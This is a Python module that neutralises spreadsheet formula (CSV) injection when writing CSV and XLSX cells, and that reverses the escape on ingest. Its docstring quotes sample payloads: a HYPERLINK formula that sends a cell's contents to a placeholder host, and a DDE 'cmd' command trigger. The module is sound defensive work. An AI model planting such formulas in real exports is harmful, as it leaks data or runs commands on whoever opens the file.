"""Spreadsheet cells and formulas: the one rule every CSV and XLSX writer calls, and its inverse on read.

A text such as ``=HYPERLINK("http://x?"&A1)`` or ``-1+cmd|'/C calc'!A0`` written raw into a CSV
becomes a live formula when the file is opened in Excel or LibreOffice (OWASP "CSV injection").
:func:`neutralise` prefixes such text with a single quote, the spreadsheet's own "this is text"
mark, so the cell shows the text and computes nothing.

Variants and guarantees:

- Only ``str`` values change. Numbers, dates, booleans and ``None`` pass through, so a negative
  number stays a number; a string that is exactly a plain decimal number (``"-5"``, ``"+1.5e3"``)
  passes too: a spreadsheet reads it as that number and evaluates nothing.
- Text already starting with quotes before a trigger (``'=x``) gets one more, so
  :func:`unescape` is its exact inverse: ``unescape(neutralise(s)) == s`` for every string.
  Ingest applies the same inverse to text (as a spreadsheet would), so a quarantine export
  fixed in Excel and ingested again reads back the original values. It lives in the ingest
  layer because that is the lowest layer both the reader and every writer may import.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

T = TypeVar("T")

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"^'*[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
UNESCAPE_PATTERN = r"^'('*[=+\-@\t\r])"
"""The same rule as :func:`unescape`, for RE2 (pyarrow compute): drop one quote before a trigger."""


def neutralise(value: T) -> T | str:
    """``value`` as a cell that a spreadsheet shows and never evaluates.

    >>> neutralise("=1+1"), neutralise("-1+2"), neutralise("@SUM(A1)"), neutralise("'=x")
    ("'=1+1", "'-1+2", "'@SUM(A1)", "''=x")
    >>> neutralise(-3.5), neutralise("-3.5"), neutralise("Desk 1 - north"), neutralise(None)
    (-3.5, '-3.5', 'Desk 1 - north', None)
    """
    if isinstance(value, str) and _ESCAPED.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`neutralise`."""
    return [neutralise(v) for v in values]


def unescape(text: str) -> str:
    """Undo :func:`neutralise`: one leading quote before (quotes and) a trigger is dropped.

    >>> unescape("'=1+1"), unescape("''=x"), unescape("'quoted'"), unescape("-5")
    ('=1+1', "'=x", "'quoted'", '-5')
    """
    return text[1:] if text.startswith("'") and _ESCAPED.match(text[1:]) else text


def append_text_row(sheet: Worksheet, values: Iterable[object]) -> None:
    """Append a row to an openpyxl sheet with every text cell neutralised and typed as text.

    openpyxl makes any string starting with ``=`` a formula cell; after :func:`neutralise` none
    does, and the explicit string type keeps it so whatever openpyxl's guessing does next.
    """
    sheet.append(neutralise_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
